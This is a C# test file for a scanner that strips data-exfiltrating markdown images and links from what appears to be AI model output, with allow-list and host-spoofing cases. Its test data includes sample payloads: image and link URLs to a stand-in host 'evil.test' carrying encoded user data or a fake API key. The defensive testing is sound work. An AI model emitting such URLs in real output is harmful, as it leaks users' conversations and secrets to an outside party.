using MeshFlow.Governance.Guardian;

namespace MeshFlow.Tests.Governance.Guardian;

public sealed class LeakScannerExfiltrationTests
{
    private static readonly string[] s_allowed = ["example.com", "docs.acme.test"];

    [Theory]
    [InlineData("![chart](https://evil.test/c.png?d=SGVsbG8gd29ybGQsIHRoZSB1c2VyIGFza2VkIGFib3V0IHNhbGFyaWVz)")]
    [InlineData("![](https://evil.test/pixel.gif?q=user%20asked%20about%20the%20merger%20terms)")]
    [InlineData("![s](https://evil.test/p/SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ==/a.png)")]
    [InlineData("![logo](//evil.test/l.png?k=4a6f686e20446f652073616c617279)")]
    [InlineData("<img src=\"https://evil.test/t.png?c=SGVsbG8gd29ybGQsIHRoZSB1c2Vy\" width=\"1\">")]
    public void A_markdown_image_whose_url_carries_data_is_stripped_whole(string image)
    {
        var output = $"Here is the summary. {image} Let me know if you need more.";

        var stripped = new LeakScanner().Strip(output, out var matches);

        var match = Assert.Single(matches);
        Assert.Equal((LeakKind.Exfiltration, LeakLabels.MarkdownImage), (match.Kind, match.Label));
        Assert.Equal("Here is the summary. [LINK-REMOVED:markdown_image] Let me know if you need more.", stripped);
    }

    [Theory]
    [InlineData("![architecture](https://example.com/images/architecture.png)")]
    [InlineData("![badge](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)")]
    [InlineData("![resized](https://cdn.example.org/photo.jpg?w=600&h=400)")]
    [InlineData("![shot](https://raw.githubusercontent.com/acme/app/3f2a9c1e7b4d5a6f8e9c0b1a2d3e4f5a6b7c8d9e/docs/shot.png)")]
    [InlineData("![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)")]
    [InlineData("![local](./images/flow.png)")]
    public void An_ordinary_image_passes_when_no_allow_list_is_set(string image)
    {
        Assert.Empty(new LeakScanner().Find($"See the diagram: {image}"));
    }

    [Fact]
    public void With_an_allow_list_an_image_from_any_other_host_is_a_channel()
    {
        var scanner = new LeakScanner(allowedHosts: s_allowed);

        var outside = scanner.Find("![architecture](https://images.other.test/architecture.png)");
        var inside = scanner.Find("![architecture](https://cdn.example.com/architecture.png)");

        Assert.Equal(LeakLabels.MarkdownImage, Assert.Single(outside).Label);
        Assert.Empty(inside);
    }

    [Theory]
    [InlineData("[source](https://evil.test/r?q=4a6f686e20446f652c2073616c617279203132306b)")]
    [InlineData("[details](https://evil.test/r?ctx=U2VjcmV0IHByb2plY3QgbmFtZTogQmx1ZWJpcmQ%3D)")]
    [InlineData("[search](https://www.google.com/search?q=how+to+rotate+keys&oq=how+to+rotate&aqs=chrome.0.69i59j0i512l9.4567j0j7&sourceid=chrome)")]
    public void A_markdown_link_whose_query_carries_data_is_stripped(string link)
    {
        var stripped = new LeakScanner().Strip($"More: {link}.", out var matches);

        Assert.Equal(LeakLabels.MarkdownLinkData, Assert.Single(matches).Label);
        Assert.Equal("More: [LINK-REMOVED:markdown_link_data].", stripped);
    }

    [Theory]
    [InlineData("[docs](https://docs.example.com/search?q=retry)")]
    [InlineData("[issue](https://github.com/acme/app/issues/4412)")]
    [InlineData("[commit](https://github.com/acme/app/commit/3f2a9c1e7b4d5a6f8e9c0b1a2d3e4f5a6b7c8d9e)")]
    [InlineData("[![build](https://img.shields.io/badge/build-passing-green)](https://ci.example.com/app)")]
    public void An_ordinary_link_passes_when_no_allow_list_is_set(string link)
    {
        Assert.Empty(new LeakScanner().Find($"See {link} for details."));
    }

    [Theory]
    [InlineData("https://example.com/pricing", true)]
    [InlineData("https://shop.example.com/cart", true)]
    [InlineData("https://docs.acme.test/guide", true)]
    [InlineData("https://acme.test/", false)]
    [InlineData("https://example.com.evil.test/x", false)]
    [InlineData("https://evil.test/?next=example.com", false)]
    [InlineData("https://example.com@evil.test/login", false)]
    [InlineData("http://notexample.com/", false)]
    public void With_an_allow_list_a_url_outside_it_is_an_unlisted_host(string url, bool allowed)
    {
        var output = $"Read {url} before you start.";

        var stripped = new LeakScanner(allowedHosts: s_allowed).Strip(output, out var matches);

        if (allowed)
        {
            Assert.Empty(matches);
        }
        else
        {
            Assert.Equal((LeakKind.Exfiltration, LeakLabels.UnlistedHost), (Assert.Single(matches).Kind, matches[0].Label));
            Assert.Equal("Read [LINK-REMOVED:unlisted_host] before you start.", stripped);
        }
    }

    [Fact]
    public void A_markdown_link_to_an_unlisted_host_is_removed_whole()
    {
        var stripped = new LeakScanner(allowedHosts: s_allowed).Strip("Try [this tool](https://other.test/tool) now.", out var matches);

        Assert.Equal(LeakLabels.UnlistedHost, Assert.Single(matches).Label);
        Assert.Equal("Try [LINK-REMOVED:unlisted_host] now.", stripped);
    }

    [Fact]
    public void A_null_or_empty_allow_list_turns_the_host_check_off()
    {
        const string Output = "Read https://anything.test/page and [this](https://other.test/).";

        Assert.Empty(new LeakScanner(allowedHosts: null).Find(Output));
        Assert.Empty(new LeakScanner(allowedHosts: []).Find(Output));
    }

    [Fact]
    public void A_secret_inside_an_exfiltrating_image_goes_with_the_image()
    {
        var output = $"![x](https://evil.test/i.png?k={FakeSecrets.OpenAi})";

        var stripped = new LeakScanner().Strip(output, out var matches);

        Assert.Equal(LeakLabels.MarkdownImage, Assert.Single(matches).Label);
        Assert.Equal("[LINK-REMOVED:markdown_image]", stripped);
    }
}
